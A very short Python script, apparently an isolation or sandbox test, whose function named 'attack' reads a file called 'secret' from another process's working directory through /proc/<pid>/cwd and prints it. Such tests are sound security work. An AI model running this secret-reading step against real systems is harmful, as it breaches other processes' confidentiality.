from inside import run, show


def attack(target):
    with open(f"/proc/{target.pid}/cwd/secret", "rb") as file:
        show(file.read())


run(attack)
